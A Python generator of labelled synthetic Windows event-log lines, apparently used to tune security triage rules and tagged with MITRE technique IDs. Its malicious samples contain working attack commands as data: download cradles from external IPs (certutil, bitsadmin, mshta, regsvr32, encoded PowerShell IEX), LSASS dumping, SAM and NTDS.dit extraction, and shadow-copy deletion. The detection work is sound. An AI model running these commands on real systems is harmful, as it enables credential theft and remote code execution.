#!/usr/bin/env python3
"""Writes tuning.jsonl: the labelled lines the triage rules are tuned on (see README.md).

Every line is written here by hand or varied from a hand-written template; nothing is copied from a public
dataset. Deterministic: run `python3 generate_tuning.py` and the file is identical.
"""
import base64
import json
import os
import random
from datetime import datetime, timedelta, timezone

R = random.Random(1201)
OUT = []
HERE = os.path.dirname(os.path.abspath(__file__))
T0 = datetime(2026, 11, 30, 7, 58, 11, tzinfo=timezone.utc)


def ts(sec=0, fmt="iso"):
    t = T0 + timedelta(seconds=sec)
    if fmt == "iso":
        return t.strftime("%Y-%m-%dT%H:%M:%S.") + f"{R.randint(0, 999):03d}Z"
    if fmt == "isos":
        return t.strftime("%Y-%m-%dT%H:%M:%SZ")
    if fmt == "3164":
        return t.strftime("%b ") + f"{t.day:>2}" + t.strftime(" %H:%M:%S")
    if fmt == "clf":
        return t.strftime("%d/%b/%Y:%H:%M:%S +0000")
    if fmt == "splunk":
        return t.strftime("%m/%d/%Y %I:%M:%S %p")
    if fmt == "audit":
        return f"{int(t.timestamp())}.{R.randint(100, 999)}"
    raise ValueError(fmt)


def add(source, line, technique, note):
    OUT.append({"source": source, "line": line, "malicious": technique is not None,
                "technique": technique, "note": note})


def enc(ps):
    return base64.b64encode(ps.encode("utf-16-le")).decode()


def hexs(s):
    return s.encode().hex().upper()


# ---------------------------------------------------------------- Windows renderers
SEC_PROV = ("Microsoft-Windows-Security-Auditing", "{54849625-5478-4994-a5ba-3e3b0328c30d}")
NS = "http://schemas.microsoft.com/win/2004/08/events/event"


def xesc(v):
    """Element text as Windows renders it: &, < and > escaped (an already-escaped &#x..; line break kept)."""
    return str(v).replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace("&amp;#x", "&#x")


def win_xml(eid, computer, sec, data, channel="Security", prov=SEC_PROV, task=0, keywords="0x8020000000000000",
            level=0, userdata=None):
    rec = R.randint(100000, 9999999)
    ed = "".join(f"<Data Name='{k}'>{xesc(v)}</Data>" for k, v in data)
    body = userdata if userdata is not None else f"<EventData>{ed}</EventData>"
    guid = f" Guid='{prov[1]}'" if prov[1] else ""
    return (f"<Event xmlns='{NS}'><System><Provider Name='{prov[0]}'{guid}/><EventID>{eid}</EventID>"
            f"<Version>0</Version><Level>{level}</Level><Task>{task}</Task><Opcode>0</Opcode><Keywords>{keywords}</Keywords>"
            f"<TimeCreated SystemTime='{ts(sec)}'/><EventRecordID>{rec}</EventRecordID><Correlation/>"
            f"<Execution ProcessID='{R.choice([4, 636, 652, 708])}' ThreadID='{R.randint(700, 9000)}'/><Channel>{channel}</Channel>"
            f"<Computer>{computer}</Computer><Security/></System>{body}</Event>")


def winlogbeat(eid, computer, sec, data, channel="Security", provider=SEC_PROV[0], action=None, outcome=None,
               message=None, extra=None):
    doc = {"@timestamp": ts(sec), "event": {"code": str(eid), "provider": provider, "kind": "event"},
           "host": {"name": computer.split(".")[0].lower()},
           "winlog": {"channel": channel, "event_id": eid, "provider_name": provider, "computer_name": computer,
                      "record_id": R.randint(100000, 9999999), "event_data": dict(data)}}
    if action:
        doc["event"]["action"] = action
    if outcome:
        doc["event"]["outcome"] = outcome
    if extra:
        for k, v in extra.items():
            doc[k] = v
    if message:
        doc["message"] = message
    return json.dumps(doc, separators=(",", ":"))


def splunk(eid, computer, sec, task, message, log="Security", source="Microsoft Windows security auditing.",
           kw="Audit Success"):
    return (f"{ts(sec, 'splunk')} LogName={log} EventCode={eid} EventType=0 ComputerName={computer} "
            f"SourceName={source} Type=Information RecordNumber={R.randint(100000, 9999999)} Keywords={kw} "
            f"TaskCategory={task} OpCode=Info Message={message}")


def p4688(user, domain, image, cmd, parent, sid="S-1-5-21-1004336348-1177238915-682003330-1107"):
    return (f"A new process has been created. Creator Subject: Security ID: {sid} Account Name: {user} "
            f"Account Domain: {domain} Logon ID: 0x{R.randint(0x10000, 0xFFFFFF):X} Target Subject: Security ID: NULL SID "
            f"Account Name: - Account Domain: - Logon ID: 0x0 Process Information: New Process ID: 0x{R.randint(0x100, 0x3FFF):x} "
            f"New Process Name: {image} Token Elevation Type: %%1937 Mandatory Label: Mandatory Label\\High Mandatory Level "
            f"Creator Process ID: 0x{R.randint(0x100, 0x3FFF):x} Creator Process Name: {parent} Process Command Line: {cmd}")


def f4625(user, domain, ip, ws, ltype="3", status="0xc000006d", sub="0xc000006a"):
    return [("SubjectUserSid", "S-1-0-0"), ("SubjectUserName", "-"), ("SubjectDomainName", "-"),
            ("SubjectLogonId", "0x0"), ("TargetUserSid", "S-1-0-0"), ("TargetUserName", user),
            ("TargetDomainName", domain), ("Status", status), ("FailureReason", "%%2313"), ("SubStatus", sub),
            ("LogonType", ltype), ("LogonProcessName", "NtLmSsp "), ("AuthenticationPackageName", "NTLM"),
            ("WorkstationName", ws), ("TransmittedServices", "-"), ("LmPackageName", "-"), ("KeyLength", "0"),
            ("ProcessId", "0x0"), ("ProcessName", "-"), ("IpAddress", ip), ("IpPort", str(R.randint(40000, 65000)))]


def f4624(user, domain, ip, ws, ltype, proc="Kerberos", pkg="Kerberos", lmp="-", keylen="0", subj="-"):
    return [("SubjectUserSid", "S-1-0-0" if subj == "-" else "S-1-5-18"), ("SubjectUserName", subj),
            ("SubjectDomainName", "-"), ("SubjectLogonId", "0x0" if subj == "-" else "0x3e7"),
            ("TargetUserSid", f"S-1-5-21-1004336348-1177238915-682003330-{R.randint(1100, 4000)}"),
            ("TargetUserName", user), ("TargetDomainName", domain), ("TargetLogonId", f"0x{R.randint(0x100000, 0xFFFFFFF):x}"),
            ("LogonType", ltype), ("LogonProcessName", proc), ("AuthenticationPackageName", pkg),
            ("WorkstationName", ws), ("LogonGuid", "{00000000-0000-0000-0000-000000000000}"),
            ("TransmittedServices", "-"), ("LmPackageName", lmp), ("KeyLength", keylen), ("ProcessId", "0x0"),
            ("ProcessName", "-"), ("IpAddress", ip), ("IpPort", str(R.randint(40000, 65000))),
            ("ImpersonationLevel", "%%1833")]


def windows_security():
    s = "windows-security"
    dc = "DC01.corp.example.com"
    # brute force burst against one account from one external address (XML)
    for i in range(6):
        add(s, win_xml(4625, "RDS01.corp.example.com", 30 + i * 2, f4625("administrator", "CORP", "185.220.101.37", "kali", ltype="3"), task=12544, keywords="0x8010000000000000"),
            "T1110.001", "one of a rapid burst of failed logons for administrator from one external IP")
    add(s, win_xml(4624, "WS-FIN-014.corp.example.com", 200, f4624("jsmith", "CORP", "10.20.14.55", "WS-FIN-014", "2", "User32 ", "Negotiate", subj="WS-FIN-014$"), task=12544),
        None, "interactive logon at the user's own workstation")
    add(s, win_xml(4625, "WS-HR-007.corp.example.com", 260, f4625("mgarcia", "CORP", "10.20.31.18", "WS-HR-007", ltype="2"), task=12544, keywords="0x8010000000000000"),
        None, "a single mistyped password at the console, no burst")
    add(s, win_xml(4624, "FS02.corp.example.com", 300, f4624("svc_nessus", "CORP", "10.10.5.20", "SCAN-NESSUS01", "3", "NtLmSsp ", "NTLM", "NTLM V2", "128"), task=12544),
        None, "credentialed Nessus scan from the approved internal scanner host")
    add(s, win_xml(4624, "WS-ENG-031.corp.example.com", 340, f4624("adm-rkhan", "CORP", "10.20.40.11", "WS-ENG-031", "9", "seclogo", "Negotiate", subj="rkhan"), task=12544),
        "T1550.002", "logon type 9 via seclogo (sekurlsa::pth style new credentials logon)")
    add(s, win_xml(1102, dc, 400, [], prov=("Microsoft-Windows-Eventlog", "{fc65ddd8-d6ef-4962-83d5-6e5cfe9ce148}"), task=104, keywords="0x4020000000000000",
                   userdata="<UserData><LogFileCleared xmlns='http://manifests.microsoft.com/win/2004/08/windows/eventlog'><SubjectUserSid>S-1-5-21-1004336348-1177238915-682003330-1502</SubjectUserSid><SubjectUserName>tmpadmin</SubjectUserName><SubjectDomainName>CORP</SubjectDomainName><SubjectLogonId>0x5c1a7e</SubjectLogonId></LogFileCleared></UserData>"),
        "T1070.001", "security audit log cleared (1102)")
    # password spray across users (winlogbeat)
    for i, u in enumerate(["a.wong", "b.fischer", "c.dupont", "d.okafor", "e.lindqvist", "f.rossi"]):
        add(s, winlogbeat(4625, "EXCH01.corp.example.com", 500 + i * 3, f4625(u, "CORP", "45.155.205.99", "-", ltype="3", sub="0xc000006a"),
                          action="logon-failed", outcome="failure", message="An account failed to log on."),
            "T1110.003", "password spray: one external IP, many different accounts, seconds apart")
    add(s, winlogbeat(4624, "WS-MKT-002.corp.example.com", 620, f4624("lnguyen", "CORP", "10.20.22.9", "WS-MKT-002", "11", "User32 ", "Negotiate"),
                      action="logged-in", outcome="success", message="An account was successfully logged on."),
        None, "cached interactive logon on a laptop")
    add(s, winlogbeat(4634, "WS-MKT-002.corp.example.com", 660, [("TargetUserName", "lnguyen"), ("TargetDomainName", "CORP"), ("LogonType", "11"), ("TargetLogonId", "0x3a2f11")],
                      action="logged-out", outcome="success", message="An account was logged off."),
        None, "ordinary logoff")
    add(s, winlogbeat(4769, dc, 700, [("TargetUserName", "jsmith@CORP.EXAMPLE.COM"), ("ServiceName", "FS02$"), ("TicketEncryptionType", "0x12"), ("TicketOptions", "0x40810000"), ("IpAddress", "::ffff:10.20.14.55"), ("Status", "0x0")],
                      action="kerberos-service-ticket-requested", outcome="success"),
        None, "AES service ticket for a file server, normal")
    add(s, winlogbeat(4769, dc, 720, [("TargetUserName", "b.fischer@CORP.EXAMPLE.COM"), ("ServiceName", "svc_sqlreport"), ("TicketEncryptionType", "0x17"), ("TicketOptions", "0x40810010"), ("IpAddress", "::ffff:10.20.33.140"), ("Status", "0x0")],
                      action="kerberos-service-ticket-requested", outcome="success"),
        "T1558.003", "RC4 (0x17) service ticket for a user service account: kerberoasting")
    # process creation as Splunk key=value
    ch = "C:\\Windows\\System32\\"
    add(s, splunk(4688, "WS-FIN-014.corp.example.com", 800, "Process Creation", p4688("jsmith", "CORP", ch + "vssadmin.exe", "vssadmin.exe delete shadows /all /quiet", ch + "cmd.exe")),
        "T1490", "shadow copies deleted")
    add(s, splunk(4688, "WEB03.corp.example.com", 820, "Process Creation", p4688("WEB03$", "CORP", ch + "whoami.exe", "whoami /all", ch + "inetsrv\\w3wp.exe", sid="S-1-5-82-3006700770")),
        "T1033", "whoami spawned by the IIS worker process: webshell discovery")
    add(s, splunk(4688, "WS-ENG-031.corp.example.com", 840, "Process Creation", p4688("rkhan", "CORP", ch + "net.exe", 'net  group "domain admins" /domain', ch + "cmd.exe")),
        "T1069.002", "enumerates the Domain Admins group")
    add(s, splunk(4688, "SRV-APP02.corp.example.com", 860, "Process Creation", p4688("svc_app", "CORP", ch + "reg.exe", "reg.exe save HKLM\\SAM C:\\ProgramData\\sam.save /y", ch + "cmd.exe")),
        "T1003.002", "SAM hive saved to disk")
    add(s, splunk(4688, dc, 880, "Process Creation", p4688("tmpadmin", "CORP", ch + "ntdsutil.exe", 'ntdsutil "ac i ntds" "ifm" "create full c:\\perflogs\\x" q q', ch + "cmd.exe")),
        "T1003.003", "ntdsutil IFM copy of NTDS.dit")
    add(s, splunk(4688, "WS-HR-007.corp.example.com", 900, "Process Creation", p4688("mgarcia", "CORP", ch + "certutil.exe", "certutil.exe -urlcache -split -f http://91.215.85.17/upd.bin C:\\Users\\Public\\upd.exe", "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE")),
        "T1105", "certutil used to download a binary, spawned by Word")
    add(s, splunk(4688, "WS-IT-001.corp.example.com", 920, "Process Creation", p4688("adm-pchen", "CORP", ch + "whoami.exe", "whoami", ch + "cmd.exe")),
        None, "an admin typing whoami in an interactive cmd")
    add(s, splunk(4688, "WS-FIN-020.corp.example.com", 940, "Process Creation", p4688("SYSTEM", "NT AUTHORITY", ch + "WindowsPowerShell\\v1.0\\powershell.exe", 'powershell.exe -NoProfile -ExecutionPolicy Bypass -File "C:\\Windows\\CCM\\SystemTemp\\Invoke-ComplianceCheck.ps1"', "C:\\Windows\\CCM\\CcmExec.exe", sid="S-1-5-18")),
        None, "SCCM client running its signed compliance script with ExecutionPolicy Bypass")
    add(s, splunk(4688, "BKP01.corp.example.com", 960, "Process Creation", p4688("svc_backup", "CORP", ch + "wbadmin.exe", "wbadmin start backup -backupTarget:\\\\nas01\\winbackup -include:C: -allCritical -quiet", ch + "svchost.exe")),
        None, "scheduled Windows Server Backup job")
    add(s, splunk(4688, "SQL01.corp.example.com", 980, "Process Creation", p4688("svc_veeam", "CORP", ch + "vssadmin.exe", "vssadmin list shadows /for=D:", "C:\\Program Files\\Veeam\\Endpoint Backup\\Veeam.EndPoint.Service.exe")),
        None, "Veeam agent listing shadow copies before a backup")
    add(s, splunk(4688, "WS-IT-001.corp.example.com", 1000, "Process Creation", p4688("adm-pchen", "CORP", ch + "gpupdate.exe", "gpupdate /force", ch + "cmd.exe")),
        None, "admin refreshing group policy")
    # text renderings
    add(s, f"{ts(1100, 'isos')} {dc} Microsoft-Windows-Security-Auditing[4720]: A user account was created. Subject: Security ID: CORP\\tmpadmin Account Name: tmpadmin Account Domain: CORP New Account: Security ID: CORP\\support_svc Account Name: support_svc Account Domain: CORP",
        "T1136.002", "domain account created by the same throw-away admin that cleared the log")
    add(s, f"{ts(1130, 'isos')} {dc} Microsoft-Windows-Security-Auditing[4728]: A member was added to a security-enabled global group. Subject: Account Name: tmpadmin Account Domain: CORP Member: Security ID: CORP\\support_svc Account Name: CN=support_svc,OU=Users,DC=corp,DC=example,DC=com Group: Group Name: Domain Admins Group Domain: CORP",
        "T1098", "new account put into Domain Admins")
    add(s, f"{ts(1160, 'isos')} FS02.corp.example.com Microsoft-Windows-Security-Auditing[5145]: A network share object was checked to see whether client can be granted desired access. Subject: Account Name: adm-rkhan Account Domain: CORP Network Information: Object Type: File Source Address: 10.20.40.11 Source Port: 50122 Share Information: Share Name: \\\\*\\ADMIN$ Share Path: \\??\\C:\\Windows Relative Target Name: PSEXESVC.exe Access Request Information: Access Mask: 0x2",
        "T1021.002", "PsExec service binary written over the ADMIN$ share")
    add(s, f"{ts(1190, 'isos')} FS02.corp.example.com Microsoft-Windows-Security-Auditing[5140]: A network share object was accessed. Subject: Account Name: WS-FIN-014$ Account Domain: CORP Network Information: Object Type: File Source Address: 10.20.14.55 Share Information: Share Name: \\\\*\\SYSVOL Share Path: \\??\\C:\\Windows\\SYSVOL\\sysvol Access Mask: 0x1",
        None, "computer account reading SYSVOL for group policy")
    add(s, f"{ts(1220, 'isos')} WS-FIN-020.corp.example.com Microsoft-Windows-Security-Auditing[4698]: A scheduled task was created. Subject: Account Name: jsmith Account Domain: CORP Task Information: Task Name: \\Microsoft\\Windows\\UpdateOrchestrator\\UpdCheck Task Content: <Exec><Command>powershell.exe</Command><Arguments>-nop -w hidden -c \"IEX(iwr http://91.215.85.17/a)\"</Arguments></Exec>",
        "T1053.005", "scheduled task masquerading as Windows update, runs a hidden download cradle")
    add(s, f"{ts(1250, 'isos')} WS-IT-001.corp.example.com Microsoft-Windows-Security-Auditing[4672]: Special privileges assigned to new logon. Subject: Account Name: adm-pchen Account Domain: CORP Privileges: SeSecurityPrivilege SeBackupPrivilege SeRestorePrivilege SeDebugPrivilege",
        None, "admin's privileged logon, expected for an admin account")
    add(s, f"{ts(1280, 'isos')} WS-ENG-031.corp.example.com Microsoft-Windows-Security-Auditing[4624]: An account was successfully logged on. Logon Type: 10 New Logon: Account Name: adm-rkhan Account Domain: CORP Network Information: Workstation Name: WS-ENG-031 Source Network Address: 10.20.40.11 Detailed Authentication Information: Logon Process: User32 Authentication Package: Negotiate",
        None, "RDP logon from the admin's own jump host")
    add(s, win_xml(4624, "FS02.corp.example.com", 1300, f4624("a.wong", "CORP", "10.20.22.40", "WS-MKT-009", "3"), task=12544), None, "network logon to a file share")
    add(s, win_xml(4624, "SQL01.corp.example.com", 1310, f4624("svc_sql", "CORP", "-", "-", "5", "Advapi  ", "Negotiate", subj="SQL01$"), task=12544), None, "service logon at service start")
    add(s, win_xml(4624, "SRV-APP02.corp.example.com", 1320, f4624("svc_rapid7", "CORP", "10.10.5.22", "SCAN-R7-01", "3", "NtLmSsp ", "NTLM", "NTLM V2", "128"), task=12544),
        None, "Rapid7 InsightVM authenticated scan from the approved scanner host")
    add(s, winlogbeat(4625, "WS-ENG-031.corp.example.com", 1330, f4625("h.tanaka", "CORP", "10.20.40.77", "WS-ENG-044", ltype="3", sub="0xc000006a"), action="logon-failed", outcome="failure", message="An account failed to log on."),
        None, "a single failed network logon (stale mapped drive password), isolated")
    add(s, winlogbeat(4776, dc, 1340, [("PackageName", "MICROSOFT_AUTHENTICATION_PACKAGE_V1_0"), ("TargetUserName", "a.wong"), ("Workstation", "WS-MKT-009"), ("Status", "0x0")], action="credential-validated", outcome="success"),
        None, "NTLM validation succeeded")
    add(s, winlogbeat(4648, "WS-IT-001.corp.example.com", 1350, [("SubjectUserName", "pchen"), ("SubjectDomainName", "CORP"), ("TargetUserName", "adm-pchen"), ("TargetDomainName", "CORP"), ("TargetServerName", "localhost"), ("ProcessName", "C:\\Windows\\System32\\runas.exe"), ("IpAddress", "::1")],
                      action="logged-in-explicit", outcome="success"), None, "admin using runas for his own admin account")
    add(s, splunk(4688, "WS-HR-007.corp.example.com", 1360, "Process Creation", p4688("SYSTEM", "NT AUTHORITY", ch + "msiexec.exe", "msiexec.exe /i \"C:\\Windows\\ccmcache\\4f\\Teams_windows_x64.msi\" /qn ALLUSERS=1", "C:\\Windows\\CCM\\CcmExec.exe", sid="S-1-5-18")),
        None, "SCCM installing Teams")
    add(s, splunk(4688, "SRV-APP02.corp.example.com", 1370, "Process Creation", p4688("SYSTEM", "NT AUTHORITY", "C:\\Program Files\\Qualys\\QualysAgent\\QualysAgent.exe", "\"C:\\Program Files\\Qualys\\QualysAgent\\QualysAgent.exe\" --scan-now", ch + "services.exe", sid="S-1-5-18")),
        None, "Qualys cloud agent scheduled scan")
    add(s, f"{ts(1380, 'isos')} DC01.corp.example.com Microsoft-Windows-Security-Auditing[4738]: A user account was changed. Subject: Account Name: helpdesk-ana Account Domain: CORP Target Account: Account Name: mgarcia Account Domain: CORP Changed Attributes: Password Last Set: 11/30/2026 9:21:02 AM",
        None, "helpdesk password reset after a ticket")
    add(s, f"{ts(1390, 'isos')} WS-HR-007.corp.example.com Microsoft-Windows-Security-Auditing[4800]: The workstation was locked. Subject: Account Name: mgarcia Account Domain: CORP Session ID: 2",
        None, "workstation locked")


def windows_system():
    s = "windows-system"
    scm = ("Service Control Manager", "{555908d1-a6d7-4695-8e1e-26931d2012f4}")

    def svc(sec, comp, name, path, stype="user mode service", start="demand start", acct="LocalSystem"):
        return win_xml(7045, comp, sec, [("ServiceName", name), ("ImagePath", path), ("ServiceType", stype), ("StartType", start), ("AccountName", acct)],
                       channel="System", prov=scm, keywords="0x8080000000000000", level=4)
    add(s, svc(10, "FS02.corp.example.com", "PSEXESVC", "%SystemRoot%\\PSEXESVC.exe"), "T1569.002", "PsExec service installed on a file server")
    add(s, svc(40, "WS-FIN-014.corp.example.com", "WinUpdateHelper", "C:\\Users\\Public\\Libraries\\svchost.exe", start="auto start"), "T1543.003", "auto-start service from a user-writable path posing as svchost")
    add(s, svc(70, "SRV-APP02.corp.example.com", "BTOBTO", "%COMSPEC% /Q /c echo cd  ^> \\\\127.0.0.1\\C$\\__output 2^>^&1 > %TEMP%\\execute.bat & %COMSPEC% /Q /c %TEMP%\\execute.bat & del %TEMP%\\execute.bat"),
        "T1569.002", "smbexec-style service that runs commands via a temp batch file")
    add(s, svc(100, "WS-HR-007.corp.example.com", "gupdatem", "\"C:\\Program Files (x86)\\Google\\Update\\GoogleUpdate.exe\" /medsvc"), None, "Google Update service installed with Chrome")
    add(s, svc(130, "SQL01.corp.example.com", "VeeamEndpointBackupSvc", "\"C:\\Program Files\\Veeam\\Endpoint Backup\\Veeam.EndPoint.Service.exe\"", start="auto start"), None, "Veeam agent service installed by the backup team")
    add(s, svc(160, "WS-ENG-031.corp.example.com", "IntuneManagementExtension", "\"C:\\Program Files (x86)\\Microsoft Intune Management Extension\\Microsoft.Management.Services.IntuneWindowsAgent.exe\"", start="auto start"), None, "Intune management extension installed")
    add(s, svc(190, "WS-MKT-002.corp.example.com", "svcmgmt", "cmd.exe /c powershell -nop -w hidden -enc " + enc("IEX (New-Object Net.WebClient).DownloadString('http://45.9.148.22/s')"), start="auto start"),
        "T1543.003", "service whose binary path is an encoded PowerShell cradle")
    add(s, winlogbeat(104, "DC01.corp.example.com", 220, [("SubjectUserName", "tmpadmin"), ("SubjectDomainName", "CORP"), ("Channel", "System"), ("BackupPath", "")], channel="System", provider="Microsoft-Windows-Eventlog",
                      message="The System log file was cleared."), "T1070.001", "System event log cleared (104)")
    add(s, winlogbeat(7040, "WS-FIN-014.corp.example.com", 250, [("param1", "Microsoft Defender Antivirus Service"), ("param2", "auto start"), ("param3", "disabled"), ("param4", "WinDefend")], channel="System", provider="Service Control Manager",
                      message="The start type of the Microsoft Defender Antivirus Service service was changed from auto start to disabled."), "T1562.001", "Defender service start type set to disabled")
    add(s, winlogbeat(7040, "WS-HR-007.corp.example.com", 280, [("param1", "Background Intelligent Transfer Service"), ("param2", "demand start"), ("param3", "auto start"), ("param4", "BITS")], channel="System", provider="Service Control Manager",
                      message="The start type of the Background Intelligent Transfer Service service was changed from demand start to auto start."), None, "Windows servicing toggles BITS start type")
    add(s, winlogbeat(7036, "FS02.corp.example.com", 300, [("param1", "Windows Update"), ("param2", "running")], channel="System", provider="Service Control Manager",
                      message="The Windows Update service entered the running state."), None, "service state change noise")
    add(s, winlogbeat(7036, "WS-FIN-014.corp.example.com", 320, [("param1", "Microsoft Defender Antivirus Service"), ("param2", "stopped")], channel="System", provider="Service Control Manager",
                      message="The Microsoft Defender Antivirus Service service entered the stopped state."), "T1562.001", "Defender stopped right after being disabled")
    add(s, splunk(6005, "WS-HR-007.corp.example.com", 340, "None", "The Event log service was started.", log="System", source="EventLog", kw="Classic"), None, "boot")
    add(s, splunk(1074, "SRV-APP02.corp.example.com", 360, "None", "The process C:\\Windows\\servicing\\TrustedInstaller.exe (SRV-APP02) has initiated the restart of computer SRV-APP02 on behalf of user NT AUTHORITY\\SYSTEM for the following reason: Operating System: Upgrade (Planned) Reason Code: 0x80020003 Shutdown Type: restart",
                  log="System", source="User32", kw="Classic"), None, "patch-Tuesday reboot")
    add(s, splunk(7045, "WS-IT-001.corp.example.com", 380, "None", "A service was installed in the system. Service Name: Rapid7 Insight Agent Service File Name: \"C:\\Program Files\\Rapid7\\Insight Agent\\ir_agent.exe\" Service Type: user mode service Service Start Type: auto start Service Account: LocalSystem",
                  log="System", source="Service Control Manager", kw="Classic"), None, "approved Rapid7 agent rollout")
    add(s, splunk(7045, "WS-ENG-031.corp.example.com", 400, "None", "A service was installed in the system. Service Name: fltmgrx File Name: C:\\Windows\\Temp\\fltmgrx.sys Service Type: kernel mode driver Service Start Type: system start Service Account: ",
                  log="System", source="Service Control Manager", kw="Classic"), "T1543.003", "kernel driver service loaded from Windows\\Temp")
    add(s, f"{ts(420, 'isos')} WS-MKT-002 EventLog[6006]: The Event log service was stopped.", None, "clean shutdown")
    add(s, f"{ts(440, 'isos')} WS-MKT-002 Microsoft-Windows-Kernel-General[12]: The operating system started at system time 2026-11-30T08:05:11.500000000Z.", None, "boot")
    add(s, f"{ts(460, 'isos')} WS-FIN-020 Microsoft-Windows-WindowsUpdateClient[19]: Installation Successful: Windows successfully installed the following update: 2026-11 Cumulative Update for Windows 11 Version 24H2 for x64-based Systems (KB5070312)", None, "patch installed")
    add(s, f"{ts(480, 'isos')} FS02 Service Control Manager[7045]: A service was installed in the system. Service Name: RemComSvc Service File Name: %SystemRoot%\\RemComSvc.exe Service Type: user mode service Service Start Type: demand start Service Account: LocalSystem",
        "T1569.002", "RemCom remote execution service (PsExec clone)")
    add(s, f"{ts(500, 'isos')} WS-HR-007 Microsoft-Windows-Time-Service[37]: The time provider NtpClient is currently receiving valid time data from DC01.corp.example.com.", None, "time sync")
    add(s, f"{ts(520, 'isos')} SQL01 Microsoft-Windows-Eventlog[104]: The Application log file was cleared. Subject: Account Name: svc_app Domain: CORP", "T1070.001", "Application log cleared by a service account")
    add(s, f"{ts(540, 'isos')} WS-FIN-020 Service Control Manager[7036]: The Volume Shadow Copy service entered the running state.", None, "VSS starting for a backup")
    add(s, f"{ts(560, 'isos')} BKP01 Microsoft-Windows-Backup[4]: The backup operation has finished successfully.", None, "backup finished")


def sysmon():
    s = "sysmon"
    prov = ("Microsoft-Windows-Sysmon", "{5770385f-c22a-43e0-bf4c-06f5698ffbd9}")
    ch = "Microsoft-Windows-Sysmon/Operational"

    def pc(sec, comp, image, cmd, parent, pcmd, user, ofn=None, hashes=True):
        d = [("RuleName", "-"), ("UtcTime", ts(sec)[:-1].replace("T", " ")), ("ProcessGuid", "{%08x-1a2b-6571-0b02-000000001c00}" % R.randint(0, 0xffffffff)),
             ("ProcessId", str(R.randint(1000, 20000))), ("Image", image), ("FileVersion", "-"), ("Description", "-"), ("Product", "-"), ("Company", "-"),
             ("OriginalFileName", ofn or image.split("\\")[-1]), ("CommandLine", cmd), ("CurrentDirectory", "C:\\Windows\\system32\\"), ("User", user),
             ("LogonId", "0x%x" % R.randint(0x10000, 0xffffff)), ("IntegrityLevel", "High"),
             ("Hashes", "SHA256=%064X" % R.getrandbits(256)), ("ParentImage", parent), ("ParentCommandLine", pcmd)]
        return win_xml(1, comp, sec, d, channel=ch, prov=prov, task=1, keywords="0x8000000000000000", level=4)

    def sj(eid, comp, sec, data):
        return winlogbeat(eid, comp, sec, data, channel=ch, provider="Microsoft-Windows-Sysmon")
    S32 = "C:\\Windows\\System32\\"
    add(s, pc(10, "WS-FIN-014.corp.example.com", S32 + "rundll32.exe", "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 652 C:\\ProgramData\\lsass.dmp full", S32 + "cmd.exe", "cmd.exe /c", "CORP\\jsmith", "RUNDLL32.EXE"),
        "T1003.001", "comsvcs MiniDump of the LSASS pid")
    add(s, sj(10, "WS-FIN-014.corp.example.com", 12, {"SourceImage": "C:\\Users\\jsmith\\AppData\\Local\\Temp\\procdump64.exe", "TargetImage": S32 + "lsass.exe", "GrantedAccess": "0x1fffff", "CallTrace": "C:\\Windows\\SYSTEM32\\ntdll.dll+9d1d4|C:\\Windows\\System32\\KERNELBASE.dll+2c13e|UNKNOWN(00007FF6A1B2C3D4)", "SourceUser": "CORP\\jsmith"}),
        "T1003.001", "full-access handle to lsass from a temp binary")
    add(s, sj(10, "WS-IT-001.corp.example.com", 14, {"SourceImage": "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24090.11-0\\MsMpEng.exe", "TargetImage": S32 + "lsass.exe", "GrantedAccess": "0x1000", "CallTrace": "C:\\Windows\\SYSTEM32\\ntdll.dll+9d1d4|C:\\Windows\\System32\\KERNELBASE.dll+2c13e", "SourceUser": "NT AUTHORITY\\SYSTEM"}),
        None, "Defender querying lsass with limited access, routine")
    add(s, pc(20, "WS-HR-007.corp.example.com", S32 + "mshta.exe", "mshta.exe http://91.215.85.17/p.hta", "C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE", "\"EXCEL.EXE\" /dde", "CORP\\mgarcia", "MSHTA.EXE"),
        "T1218.005", "mshta fetching a remote HTA from Excel")
    add(s, pc(30, "WS-MKT-002.corp.example.com", S32 + "regsvr32.exe", "regsvr32 /s /n /u /i:http://45.9.148.22/x.sct scrobj.dll", S32 + "cmd.exe", "cmd /c", "CORP\\lnguyen", "REGSVR32.EXE"),
        "T1218.010", "squiblydoo: regsvr32 loading a remote scriptlet")
    add(s, pc(40, "WS-MKT-002.corp.example.com", S32 + "rundll32.exe", "rundll32.exe javascript:\"\\..\\mshtml,RunHTMLApplication \";document.write();GetObject(\"script:http://45.9.148.22/r\")", S32 + "cmd.exe", "cmd /c", "CORP\\lnguyen", "RUNDLL32.EXE"),
        "T1218.011", "rundll32 running javascript via mshtml")
    add(s, pc(50, "WS-ENG-031.corp.example.com", S32 + "bitsadmin.exe", "bitsadmin /transfer job1 /download /priority high http://91.215.85.17/u.exe C:\\Users\\Public\\u.exe", S32 + "cmd.exe", "cmd.exe", "CORP\\rkhan", "bitsadmin.exe"),
        "T1197", "BITS job downloading an executable")
    add(s, sj(13, "WS-HR-007.corp.example.com", 60, {"EventType": "SetValue", "Image": "C:\\Users\\mgarcia\\AppData\\Roaming\\updater.exe", "TargetObject": "HKU\\S-1-5-21-1004336348-1177238915-682003330-1203\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\OneDriveSync", "Details": "C:\\Users\\mgarcia\\AppData\\Roaming\\updater.exe -silent", "User": "CORP\\mgarcia"}),
        "T1547.001", "Run key persistence for a binary in AppData posing as OneDrive")
    add(s, sj(13, "WS-HR-007.corp.example.com", 62, {"EventType": "SetValue", "Image": "C:\\Program Files\\Microsoft OneDrive\\OneDrive.exe", "TargetObject": "HKU\\S-1-5-21-1004336348-1177238915-682003330-1203\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\OneDrive", "Details": "\"C:\\Program Files\\Microsoft OneDrive\\OneDrive.exe\" /background", "User": "CORP\\mgarcia"}),
        None, "OneDrive registering its own autostart")
    add(s, sj(20, "SRV-APP02.corp.example.com", 70, {"EventType": "WmiConsumerEvent", "Operation": "Created", "User": "CORP\\svc_app", "Name": "\"SysUpd\"", "Type": "Command Line", "Destination": "\"powershell.exe -nop -w hidden -c IEX(gc C:\\\\ProgramData\\\\s.txt -raw)\""}),
        "T1546.003", "WMI command-line event consumer created")
